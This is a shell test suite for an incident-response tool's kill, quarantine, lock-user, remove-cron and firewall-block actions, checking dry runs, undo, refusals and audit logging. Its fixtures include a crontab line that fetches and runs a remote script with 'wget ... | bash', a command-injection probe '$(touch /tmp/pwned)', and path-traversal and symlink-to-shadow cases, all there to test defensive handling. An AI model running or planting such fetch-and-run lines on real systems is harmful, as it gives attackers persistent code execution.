#!/bin/sh
# respond.sh MAMORI - `mamori agent respond` against real processes, real
# files under a test root and nftables inside a network namespace made
# here: each action dry-run (nothing changes), act, undo; refusals (pid
# 1, the caller, a kernel thread, symlink escapes, a path outside the
# allowed roots, root without --force); the audit log and the database
# agree. Needs root for the chown/namespace parts (skips them with the
# reason otherwise). Ends "respond: N passed, N failed, N skipped".
HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/lib/suite.sh"

R="$T/root"
DB="$T/m.db"
AUD="$T/audit.log"
O="--db $DB --audit-log $AUD"
RO="--root $R $O"
mkdir -p "$R/tmp/.gitlab" "$R/etc" "$R/var/spool/cron/crontabs" "$R/home/git"
last_id() { "$M" agent respond list $O | awk 'NR>1{id=$1} END{print id}'; }
detail() { # ID KEY: a member of the action's detail, from the database
	"$M" agent respond list $O --format json |
		python3 -c 'import json,sys
for l in sys.stdin:
    j=json.loads(l)
    if j["id"]==sys.argv[1]: print(j["detail"].get(sys.argv[2],""))' "$1" "$2"
}
rows() { "$M" agent respond list $O | awk 'NR>1' | wc -l; }

# --- kill: a CPU burner copied to /tmp/.gitlab/kthreaddw ----------------
cp /bin/sh "$R/tmp/.gitlab/kthreaddw"
"$R/tmp/.gitlab/kthreaddw" -c 'while :; do :; done' &
P=$!
sleep 0.2
"$M" agent respond kill $P $O >"$T/k.out" 2>&1; rc=$?
expect kill_dry_exit "exit $rc: $(cat "$T/k.out")" test $rc -eq 0
expect kill_dry_alive "the process died on a dry run" kill -0 $P
expect kill_dry_says "$(cat "$T/k.out")" has "$T/k.out" "would kill pid $P: exe $R/tmp/.gitlab/kthreaddw"
ID=$(last_id)
expect kill_dry_recorded "no dry-run row" test "$(detail "$ID" exe)" = "$R/tmp/.gitlab/kthreaddw"
"$M" agent respond kill $P $O --yes --grace 2000 >"$T/k.out" 2>&1; rc=$?
wait $P 2>/dev/null
expect kill_exit "exit $rc: $(cat "$T/k.out")" test $rc -eq 0
expect kill_gone "process $P still there" sh -c "! kill -0 $P 2>/dev/null"
ID=$(last_id)
want=$(sha256sum "$R/tmp/.gitlab/kthreaddw" | cut -d' ' -f1)
expect kill_exe_sha256 "recorded '$(detail "$ID" exe_sha256)', file $want" test "$(detail "$ID" exe_sha256)" = "$want"
expect kill_cmdline "cmdline '$(detail "$ID" cmdline)'" test "$(detail "$ID" cmdline)" = "$R/tmp/.gitlab/kthreaddw -c while :; do :; done"
expect kill_user "user '$(detail "$ID" user)'" test "$(detail "$ID" user)" = "$(id -un)"
expect kill_sigterm "signal '$(detail "$ID" signal)'" test "$(detail "$ID" signal)" = SIGTERM
"$M" agent respond undo "$ID" $O --yes >"$T/u.out" 2>&1; rc=$?
expect kill_no_undo "exit $rc: $(cat "$T/u.out")" test $rc -ne 0
expect kill_no_undo_says "$(cat "$T/u.out")" has "$T/u.out" "cannot be brought back"
# one that ignores SIGTERM gets SIGKILL after the grace
"$R/tmp/.gitlab/kthreaddw" -c 'trap "" TERM; while :; do :; done' &
P=$!
sleep 0.2
"$M" agent respond kill $P $O --yes --grace 300 >"$T/k.out" 2>&1; rc=$?
wait $P 2>/dev/null
expect kill9_exit "exit $rc: $(cat "$T/k.out")" test $rc -eq 0
expect kill9_signal "signal '$(detail "$(last_id)" signal)'" test "$(detail "$(last_id)" signal)" = SIGKILL
# refusals
"$M" agent respond kill 1 $O --yes >"$T/r.out" 2>&1; rc=$?
expect refuse_pid1 "exit $rc: $(cat "$T/r.out")" test $rc -eq 1
expect refuse_pid1_says "$(cat "$T/r.out")" has "$T/r.out" "pid 1 is init"
expect refuse_pid1_recorded "not recorded as refused" sh -c "'$M' agent respond list $O | tail -1 | grep -q refused"
"$M" agent respond kill $$ $O --yes >"$T/r.out" 2>&1; rc=$?
expect refuse_parent "exit $rc: $(cat "$T/r.out")" test $rc -eq 1 -a -d /proc/$$
KT=""
for s in /proc/[0-9]*/stat; do
	f=$(awk '{print $9}' "$s" 2>/dev/null)
	[ -n "$f" ] && [ $((f & 2097152)) -ne 0 ] && { KT=$(awk '{print $1}' "$s"); break; }
done
if [ -n "$KT" ]; then
	"$M" agent respond kill $KT $O --yes >"$T/r.out" 2>&1; rc=$?
	expect refuse_kthread "exit $rc: $(cat "$T/r.out")" has "$T/r.out" "kernel thread"
else
	skipped refuse_kthread "no kernel thread visible in this pid namespace"
fi
"$M" agent respond kill 99999999 $O --yes >"$T/r.out" 2>&1; rc=$?
expect refuse_bad_pid "exit $rc" test $rc -eq 1

# --- quarantine: a running binary, moved, mode 000, restored -------------
cp /bin/sh "$R/tmp/.gitlab/miner"
chmod 751 "$R/tmp/.gitlab/miner"
touch -d '2026-01-02 03:04:05' "$R/tmp/.gitlab/miner"
want=$(sha256sum "$R/tmp/.gitlab/miner" | cut -d' ' -f1)
"$R/tmp/.gitlab/miner" -c 'sleep 30' &
P=$!
"$M" agent respond quarantine /tmp/.gitlab/miner $RO >"$T/q.out" 2>&1; rc=$?
expect q_dry_exit "exit $rc: $(cat "$T/q.out")" test $rc -eq 0
expect q_dry_untouched "moved on a dry run" test -f "$R/tmp/.gitlab/miner"
expect q_dry_hash "$(cat "$T/q.out")" has "$T/q.out" "sha256 $want"
"$M" agent respond quarantine /tmp/.gitlab/miner $RO --yes >"$T/q.out" 2>&1; rc=$?
QID=$(last_id)
Q="$R/var/lib/mamori/quarantine"
expect q_exit "exit $rc: $(cat "$T/q.out")" test $rc -eq 0
expect q_moved "still in place" test ! -e "$R/tmp/.gitlab/miner"
expect q_stored "no $Q/$QID" test -f "$Q/$QID"
expect q_mode000 "mode $(stat -c %a "$Q/$QID" 2>/dev/null)" test "$(stat -c %a "$Q/$QID" 2>/dev/null)" = 0
expect q_dir0700 "mode $(stat -c %a "$Q")" test "$(stat -c %a "$Q")" = 700
expect q_hash_recorded "recorded '$(detail "$QID" sha256)'" test "$(detail "$QID" sha256)" = "$want"
expect q_manifest "manifest lacks $QID" has "$Q/manifest.jsonl" "\"id\":\"$QID\".*\"original\":\"/tmp/.gitlab/miner\".*\"sha256\":\"$want\""
expect q_running_ok "the running process died" kill -0 $P
kill $P 2>/dev/null; wait $P 2>/dev/null
"$M" agent respond undo "$QID" $RO >"$T/u.out" 2>&1; rc=$?
expect q_undo_dry "exit $rc; restored on a dry run: $(cat "$T/u.out")" test $rc -eq 0 -a ! -e "$R/tmp/.gitlab/miner" -a "$(stat -c %a "$Q/$QID")" = 0
"$M" agent respond undo "$QID" $RO --yes >"$T/u.out" 2>&1; rc=$?
expect q_undo_exit "exit $rc: $(cat "$T/u.out")" test $rc -eq 0
expect q_restored_hash "content differs" test "$(sha256sum "$R/tmp/.gitlab/miner" | cut -d' ' -f1)" = "$want"
expect q_restored_mode "mode $(stat -c %a "$R/tmp/.gitlab/miner")" test "$(stat -c %a "$R/tmp/.gitlab/miner")" = 751
expect q_restored_mtime "mtime $(stat -c %y "$R/tmp/.gitlab/miner")" sh -c "stat -c %y '$R/tmp/.gitlab/miner' | grep -q '^2026-01-02 03:04:05'"
"$M" agent respond undo "$QID" $RO --yes >"$T/u.out" 2>&1; rc=$?
expect q_undo_twice "exit $rc: $(cat "$T/u.out")" has "$T/u.out" "undone already"
# a tampered quarantined file is not restored
echo x >"$R/tmp/f1"
"$M" agent respond quarantine /tmp/f1 $RO --yes >/dev/null 2>&1
QID=$(last_id)
chmod 600 "$Q/$QID"; echo y >"$Q/$QID"; chmod 000 "$Q/$QID"
"$M" agent respond undo "$QID" $RO --yes >"$T/u.out" 2>&1; rc=$?
expect q_undo_hash_check "exit $rc: $(cat "$T/u.out")" sh -c "test $rc -ne 0 && grep -q 'does not match' '$T/u.out' && test ! -e '$R/tmp/f1'"
# across filesystems: copy + fsync + unlink, then restore
if [ "$(stat -c %d /dev/shm 2>/dev/null)" != "$(stat -c %d "$T")" ] && [ -w /dev/shm ]; then
	QX=/dev/shm/mamori-respond-test.$$
	echo cross >"$R/tmp/f2"
	"$M" agent respond quarantine /tmp/f2 $RO --quarantine-dir "$QX" --yes >"$T/q.out" 2>&1; rc=$?
	XID=$(last_id)
	expect q_xdev "exit $rc: $(cat "$T/q.out")" test $rc -eq 0 -a ! -e "$R/tmp/f2" -a -f "$QX/$XID" -a "$(detail "$XID" moved)" = copy
	"$M" agent respond undo "$XID" $RO --yes >"$T/u.out" 2>&1; rc=$?
	expect q_xdev_undo "exit $rc: $(cat "$T/u.out")" sh -c "test $rc -eq 0 && grep -qx cross '$R/tmp/f2'"
	rm -rf "$QX"
else
	skipped q_xdev "/dev/shm is not a separate writable filesystem here"
fi
# an action that could not be recorded is not taken
echo keep >"$R/tmp/f3"; : >"$T/notadir"
"$M" agent respond quarantine /tmp/f3 --root "$R" --db "$DB" --audit-log "$T/notadir/audit.log" --yes >"$T/q.out" 2>&1; rc=$?
expect q_unrecordable_not_done "exit $rc: $(cat "$T/q.out")" sh -c "test $rc -eq 1 && test -f '$R/tmp/f3' && grep -q 'nothing was done' '$T/q.out'"
# refusals: symlinks (leaf and on the way out of the root), directories, '..', outside the roots
ln -s /etc "$R/tmp/evil"
ln -s "$R/tmp/.gitlab/miner" "$R/tmp/link"
for c in "symlink_escape /tmp/evil/passwd symlink" "symlink_leaf /tmp/link symlink" \
	"directory /tmp/.gitlab directory" "dotdot /tmp/../etc/passwd .." "outside_roots /etc/passwd outside"; do
	set -- $c
	"$M" agent respond quarantine "$2" $RO --yes >"$T/r.out" 2>&1; rc=$?
	expect "q_refuse_$1" "exit $rc: $(cat "$T/r.out")" sh -c "test $rc -eq 1 && grep -q -- '$3' '$T/r.out'"
done
expect q_refuse_untouched "a refused file moved" test -L "$R/tmp/link" -a -f /etc/passwd -a -d "$R/tmp/.gitlab"

# --- lock-user on the test root's shadow ---------------------------------
printf 'root:x:0:0:root:/root:/bin/bash\ngit:x:1001:1001::/home/git:/bin/bash\nalice:x:1002:1002::/home/alice:/bin/bash\n' >"$R/etc/passwd"
printf 'root:$6$r$abc:19000:0:99999:7:::\ngit:$6$g$xyz:19000:0:99999:7::20000:\nalice:!$6$a$q:19000:0:99999:7:::\n' >"$R/etc/shadow"
chmod 640 "$R/etc/shadow"
cp "$R/etc/shadow" "$T/shadow.orig"
"$M" agent respond lock-user git $RO >"$T/l.out" 2>&1; rc=$?
expect lock_dry "exit $rc, or shadow changed: $(cat "$T/l.out")" sh -c "test $rc -eq 0 && cmp -s '$R/etc/shadow' '$T/shadow.orig'"
"$M" agent respond lock-user git $RO --yes >"$T/l.out" 2>&1; rc=$?
LID=$(last_id)
expect lock_exit "exit $rc: $(cat "$T/l.out")" test $rc -eq 0
expect lock_shadow "$(grep ^git: "$R/etc/shadow")" has "$R/etc/shadow" '^git:!\$6\$g\$xyz:19000:0:99999:7::1:$'
expect lock_mode_kept "mode $(stat -c %a "$R/etc/shadow")" test "$(stat -c %a "$R/etc/shadow")" = 640
expect lock_prev_state "old_expire '$(detail "$LID" old_expire)'" test "$(detail "$LID" old_expire)" = 20000
"$M" agent respond lock-user alice $RO --yes >/dev/null 2>&1
AID=$(last_id)
expect lock_already "$(grep ^alice: "$R/etc/shadow")" has "$R/etc/shadow" '^alice:!\$6\$a\$q:19000:0:99999:7::1:$'
"$M" agent respond lock-user root $RO --yes >"$T/r.out" 2>&1; rc=$?
expect lock_refuse_root "exit $rc: $(cat "$T/r.out")" sh -c "test $rc -eq 1 && grep -q -- --force '$T/r.out' && grep -q '^root:\\\$6' '$R/etc/shadow'"
"$M" agent respond lock-user nobody_here $RO --yes >"$T/r.out" 2>&1; rc=$?
expect lock_refuse_unknown "exit $rc" test $rc -eq 1
"$M" agent respond lock-user root $RO --yes --force >"$T/r.out" 2>&1; rc=$?
RID=$(last_id)
expect lock_root_force "exit $rc: $(cat "$T/r.out")" has "$R/etc/shadow" '^root:!'
"$M" agent respond undo "$LID" $RO --yes >"$T/u.out" 2>&1 &&
	"$M" agent respond undo "$AID" $RO --yes >>"$T/u.out" 2>&1 &&
	"$M" agent respond undo "$RID" $RO --yes >>"$T/u.out" 2>&1; rc=$?
expect lock_undo "exit $rc: $(cat "$T/u.out"); $(diff "$R/etc/shadow" "$T/shadow.orig")" sh -c "test $rc -eq 0 && cmp -s '$R/etc/shadow' '$T/shadow.orig'"

# on the host (no --root) lock-user runs usermod: only its dry run here
if [ "$(id -u)" = 0 ] && grep -q '^nobody:' /etc/shadow 2>/dev/null; then
	cp /etc/shadow "$T/host-shadow"
	"$M" agent respond lock-user nobody $O >"$T/l.out" 2>&1; rc=$?
	expect lock_host_dry "exit $rc: $(cat "$T/l.out")" sh -c "test $rc -eq 0 && grep -q \"would run: .*usermod '-L' '-e' '1' 'nobody'\" '$T/l.out' && cmp -s /etc/shadow '$T/host-shadow'"
else
	skipped lock_host_dry "not root, or no user nobody in /etc/shadow"
fi

# --- remove-cron on the test root's spool --------------------------------
C="$R/var/spool/cron/crontabs/git"
printf '# DO NOT EDIT\nMAILTO=""\n*/5 * * * * wget -q -O - http://203.0.113.9/gi.sh | bash\n0 3 * * * /usr/local/bin/backup\n@reboot wget -q -O - http://203.0.113.9/gi.sh | bash\n' >"$C"
chmod 600 "$C"
cp "$C" "$T/cron.orig"
"$M" agent respond remove-cron git 'http://203.0.113.9/gi.sh' $RO >"$T/c.out" 2>&1; rc=$?
expect cron_dry "exit $rc or changed: $(cat "$T/c.out")" sh -c "test $rc -eq 0 && cmp -s '$C' '$T/cron.orig' && grep -q '^  3: \\*/5' '$T/c.out'"
"$M" agent respond remove-cron git 'http://203.0.113.9/gi.sh' $RO --yes >"$T/c.out" 2>&1; rc=$?
CID=$(last_id)
expect cron_exit "exit $rc: $(cat "$T/c.out")" test $rc -eq 0
expect cron_removed "$(cat "$C")" test "$(cat "$C")" = "$(printf '# DO NOT EDIT\nMAILTO=""\n0 3 * * * /usr/local/bin/backup')"
expect cron_mode_kept "mode $(stat -c %a "$C")" test "$(stat -c %a "$C")" = 600
# a pattern is text, never a command or a regular expression
"$M" agent respond remove-cron git '$(touch /tmp/pwned).*' $RO --yes >"$T/c.out" 2>&1; rc=$?
expect cron_pattern_fixed "exit $rc: $(cat "$T/c.out")" sh -c "test $rc -eq 0 && grep -q 'nothing to do' '$T/c.out' && test ! -e /tmp/pwned"
# after "--" everything is a word: a PATTERN "--yes" does not make it act
"$M" agent respond remove-cron git $RO -- --yes >"$T/c.out" 2>&1; rc=$?
expect cron_dashdash_word "exit $rc: $(cat "$T/c.out")" sh -c "test $rc -eq 0 && '$M' agent respond list $O | tail -1 | grep -q 'dry-run *no-match'"
# the undo works on the recorded root, whatever --root says now
"$M" agent respond undo "$CID" $O --root /nonexistent --yes >"$T/u.out" 2>&1; rc=$?
expect cron_undo "exit $rc: $(cat "$T/u.out"); $(diff "$C" "$T/cron.orig")" sh -c "test $rc -eq 0 && cmp -s '$C' '$T/cron.orig'"
ln -s /etc/shadow "$R/var/spool/cron/crontabs/bob"
"$M" agent respond remove-cron bob root $RO --yes >"$T/r.out" 2>&1; rc=$?
expect cron_refuse_symlink "exit $rc: $(cat "$T/r.out")" sh -c "test $rc -eq 1 && grep -q symlink '$T/r.out'"
"$M" agent respond remove-cron ../../etc x $RO --yes >"$T/r.out" 2>&1; rc=$?
expect cron_refuse_bad_user "exit $rc" test $rc -eq 1

# --- block: nftables inside a network namespace made here ----------------
if ! command -v nft >/dev/null 2>&1 && [ ! -x /usr/sbin/nft ]; then
	skipped block "nft is not installed (Debian package nftables; scripts/deps.sh installs it)"
elif ! unshare -rn true 2>/dev/null; then
	skipped block "this machine does not allow a network namespace (unshare -rn failed)"
else
	cat >"$T/ns.sh" <<EOF
ip link set lo up
python3 -c 'import socket,time
s=socket.socket(); s.bind(("127.0.0.2",8099)); s.listen(5); time.sleep(20)' &
L=\$!
sleep 0.5
conn() { python3 -c 'import socket; s=socket.create_connection(("127.0.0.2",8099),timeout=1)' 2>/dev/null; }
conn && echo CONN_BEFORE_OK
"$M" agent respond block 127.0.0.2 --for 1h $O >"$T/b_dry.out" 2>&1 && echo DRY_OK
nft list tables | grep -q mamori || echo DRY_NO_TABLE
"$M" agent respond block 127.0.0.2 --for 1h $O --yes >"$T/b.out" 2>&1 && echo BLOCK_OK
nft list set inet mamori blocked4 | grep -q '127.0.0.2 timeout 1h' && echo IN_SET
conn || echo CONN_BLOCKED
"$M" agent respond block 2001:db8::7 $O --yes >>"$T/b.out" 2>&1 && echo BLOCK6_OK
nft list set inet mamori blocked6 | grep -q '2001:db8::7' && echo IN_SET6
n=\$(nft list chain inet mamori input | grep -c drop); [ "\$n" = 2 ] && echo RULES_ONCE
ID=\$("$M" agent respond list $O | awk '\$3=="block" && \$4=="real" && \$6=="127.0.0.2"{print \$1}' | tail -1)
"$M" agent respond undo "\$ID" $O --yes >"$T/bu.out" 2>&1 && echo UNDO_OK
nft list set inet mamori blocked4 | grep -q '127.0.0.2' || echo NOT_IN_SET
conn && echo CONN_AFTER_OK
kill \$L
EOF
	unshare -rn sh "$T/ns.sh" >"$T/ns.out" 2>&1
	for w in CONN_BEFORE_OK DRY_OK DRY_NO_TABLE BLOCK_OK IN_SET CONN_BLOCKED BLOCK6_OK IN_SET6 RULES_ONCE UNDO_OK NOT_IN_SET CONN_AFTER_OK; do
		expect "block_$w" "$(cat "$T/ns.out" "$T/b.out" "$T/bu.out" 2>/dev/null | head -20)" grep -qx "$w" "$T/ns.out"
	done
	"$M" agent respond block 10.0.0.0/8 $O --yes >"$T/r.out" 2>&1; rc=$?
	expect block_refuse_cidr "exit $rc" test $rc -eq 1
fi

# --- the audit log and the store agree -----------------------------------
n_db=$(rows)
n_log=$(wc -l <"$AUD")
expect audit_every_action "$n_log audit lines, $n_db rows" test "$n_db" -eq "$n_log" -a "$n_db" -gt 30
expect audit_json "a line is not JSON" python3 -c 'import json,sys
for l in open(sys.argv[1]): j=json.loads(l); assert j["id"].startswith("r-") and "dry_run" in j' "$AUD"
expect audit_mode "mode $(stat -c %a "$AUD")" test "$(stat -c %a "$AUD")" = 600
expect list_undone "no undone row" sh -c "'$M' agent respond list $O | grep -q 'undone by'"

echo "respond: $pass passed, $fail failed, $skip skipped"
[ $fail -eq 0 ]
